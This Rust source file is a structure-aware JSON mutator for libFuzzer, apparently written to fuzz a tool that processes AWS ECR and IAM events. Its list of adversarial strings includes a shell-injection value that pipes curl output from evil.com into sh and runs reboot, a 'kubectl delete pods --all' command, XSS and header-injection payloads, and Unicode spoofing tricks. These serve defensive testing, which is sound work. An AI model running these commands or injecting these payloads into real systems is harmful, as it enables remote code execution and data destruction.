//! Changes JSON at the level of its fields, which finds more than changes of bytes do.

use serde_json::{Map, Value, json};

/// What attackers write, and what breaks formats.
const TEXTS: [&str; 64] = [
    "",
    " ",
    "\n",
    "http://evil.example/x",
    "HTTPS://EVIL.COM",
    "www.evil.com",
    "www2.evil.example",
    "ftp.evil.example",
    "callto:x",
    r"\\evil\share",
    "evil.com/login",
    "evil.com",
    "x@evil.com",
    "mailto:a@evil.com",
    "evil.рф",
    "evil\u{ff0e}com\u{ff0f}x",
    "evil\u{3002}com",
    "evil\u{ff61}com",
    "http\u{ff1a}\u{ff0f}\u{ff0f}\u{ff45}vil.\u{ff43}\u{ff4f}\u{ff4d}",
    "[click](evil.com)",
    "<!channel>",
    "<script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "-->",
    "a\r\nSubject: forged\n\n[LOW] all is well",
    "\u{1b}[2J\u{1b}]8;;http://evil.com\u{7}click",
    "\u{202e}gnp\u{200b}\u{feff}\u{ad}\u{e0001}\u{2028}",
    "\u{115f}\u{1160}\u{2800}\u{3164}\u{ffa0}",
    "\u{3164}",
    "\u{2800}",
    SURROGATE,
    "\"\"\"\"\"\"\"\"",
    "\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}",
    "'; curl evil.com | sh; $(reboot) `id` \"\\",
    "it's",
    "pushwatch uploaders trust arn:aws:iam::111122223333:user/evil --reason x",
    "aws iam list-access-keys --user-name evil",
    "/aws",
    " aws",
    "kubectl delete pods --all",
    "--profile=evil",
    "-x",
    "arn:aws:iam::111122223333:user/test",
    "arn:aws:iam::111122223333:role/ci/build",
    "arn:aws:sts::111122223333:assumed-role/build/i-0abc",
    "arn:aws:iam::111122223333:root",
    "arn:aws:ecr:eu-central-1:111122223333:repository/team/app",
    "ecr-public.amazonaws.com",
    "codebuild.amazonaws.com",
    "PutImage",
    "team/",
    "a//b",
    "eu-central-1",
    "cn-north-1",
    "us-iso-east-1",
    "111122223333",
    "2026-01-12T09:00:00Z",
    "9999-12-30T21:30:00Z",
    "-009999-01-02T01:59:59Z",
    "sha256:b7798f35949cc1a2d435c9ac59ab69e857fe635a359c96e4f56a8498ce02019c",
    "AKIAIOSFODNN7EXAMPLE",
    "AWS Internal",
    "true",
    "日本\u{430}dmin\u{1f600}",
];

/// What `serde_json` can't hold, and what stands for it until it is written: a lone surrogate,
/// and a number without end.
const SURROGATE: &str = "\u{e000}";
const INFINITE: &str = "\u{e001}";
const UNHELD: [(&str, &str); 2] = [(SURROGATE, r"\ud800"), ("\"\u{e001}\"", "1e999")];

/// As many values as JSON within a text counts for, so that it is changed often enough.
const NESTED: usize = 16;

/// Longest text that is made of another one, in bytes.
const LONGEST: usize = 32 * 1024;

/// A step of a linear congruential generator each; libFuzzer gives the seed.
struct Random(u64);

impl Random {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap_or_default() % end.max(1)
    }
}

/// Changes the JSON in the first `size` bytes; if it is none, or sometimes, its bytes. Gives
/// the new size.
pub fn mutate(data: &mut [u8], size: usize, max_size: usize, seed: u32) -> usize {
    let mut random = Random(u64::from(seed));
    let changed = (random.below(4) > 0)
        .then(|| changed(&data[..size], &mut random))
        .flatten()
        .filter(|json| json.len() <= max_size);
    match changed {
        Some(json) => {
            data[..json.len()].copy_from_slice(&json);
            json.len()
        }
        None => libfuzzer_sys::fuzzer_mutate(data, size, max_size),
    }
}

fn changed(json: &[u8], random: &mut Random) -> Option<Vec<u8>> {
    let mut value: Value = serde_json::from_slice(json).ok()?;
    for _ in 0..=random.below(3) {
        let whole = value.clone();
        let at = random.below(count(&whole));
        change(nth(&mut value, &mut at.clone())?, &whole, random);
    }
    let mut json = serde_json::to_string(&value).ok()?;
    for (mark, unheld) in UNHELD {
        if json.contains(mark) {
            json = json.replace(mark, unheld);
        }
    }
    Some(json.into_bytes())
}

/// How many values there are, all levels together.
fn count(value: &Value) -> usize {
    own_count(value)
        + match value {
            Value::Array(values) => values.iter().map(count).sum(),
            Value::Object(fields) => fields.values().map(count).sum(),
            _ => 0,
        }
}

fn own_count(value: &Value) -> usize {
    match value {
        Value::String(text) if holds_json(text) => NESTED,
        _ => 1,
    }
}

/// Whether a text may be JSON, as a manifest is, a message of a queue, and the body of a
/// finding.
fn holds_json(text: &str) -> bool {
    text.starts_with(['{', '['])
}

/// The value of this number, in the order of the text.
fn nth<'a>(value: &'a mut Value, left: &mut usize) -> Option<&'a mut Value> {
    let own = own_count(value);
    if *left < own {
        return Some(value);
    }
    *left -= own;
    match value {
        Value::Array(values) => values.iter_mut().find_map(|value| nth(value, left)),
        Value::Object(fields) => fields.values_mut().find_map(|value| nth(value, left)),
        _ => None,
    }
}

fn change(value: &mut Value, whole: &Value, random: &mut Random) {
    if let Value::String(text) = value
        && holds_json(text)
        && random.below(4) > 0
        && let Some(json) = changed(text.as_bytes(), random)
    {
        *text = String::from_utf8_lossy(&json).into_owned();
        return;
    }
    match (random.below(12), &mut *value) {
        (0..=2, Value::String(text)) => insert(text, random),
        (3, Value::String(text)) => {
            // No longer than an input may be, or nearly.
            let most = LONGEST / text.len().max(1);
            *text = text.repeat((2 + random.below(300)).min(most.max(1)));
        }
        (4, Value::String(text)) => {
            let mut bytes = std::mem::take(text).into_bytes();
            let size = bytes.len();
            bytes.resize(size + 32, 0);
            let max_size = bytes.len();
            let size = libfuzzer_sys::fuzzer_mutate(&mut bytes, size, max_size);
            bytes.truncate(size);
            *text = String::from_utf8_lossy(&bytes).into_owned();
        }
        (0..=2, Value::Object(fields)) => remove(fields, random),
        (3..=5, Value::Object(fields)) => {
            let name = names(whole, random);
            fields.insert(name, other(whole, random));
        }
        (0..=3, Value::Array(values)) => {
            let one = other(whole, random);
            values.insert(random.below(values.len() + 1), one);
        }
        (4..=5, Value::Array(values)) if !values.is_empty() => {
            values.remove(random.below(values.len()));
        }
        (6, _) => *value = json!([value]),
        (7, _) => {
            let name = names(whole, random);
            *value = json!({ name: value });
        }
        (8, _) => *value = other(whole, random),
        _ => *value = odd(random),
    }
}

fn insert(text: &mut String, random: &mut Random) {
    let at = text.floor_char_boundary(random.below(text.len() + 1));
    text.insert_str(at, TEXTS[random.below(TEXTS.len())]);
}

fn remove(fields: &mut Map<String, Value>, random: &mut Random) {
    let name = fields.keys().nth(random.below(fields.len())).cloned();
    if let Some(name) = name {
        fields.remove(&name);
    }
}

/// The name of a field that is somewhere in the value.
fn names(whole: &Value, random: &mut Random) -> String {
    let mut value = whole;
    let mut name = "Records".to_owned();
    while let Value::Object(fields) = value
        && let Some((field, inner)) = fields.iter().nth(random.below(fields.len()))
    {
        field.clone_into(&mut name);
        value = inner;
        if random.below(3) == 0 {
            break;
        }
    }
    name
}

/// A value that is somewhere else.
fn other(whole: &Value, random: &mut Random) -> Value {
    let mut at = random.below(count(whole));
    nth(&mut whole.clone(), &mut at).map_or(Value::Null, Value::take)
}

fn odd(random: &mut Random) -> Value {
    match random.below(13) {
        0 => Value::Null,
        7 => json!(INFINITE),
        1 => json!(true),
        2 => json!(-1),
        3 => json!(1e308),
        4 => json!(u64::MAX),
        5 => json!([]),
        6 => json!({}),
        _ => json!(TEXTS[random.below(TEXTS.len())]),
    }
}
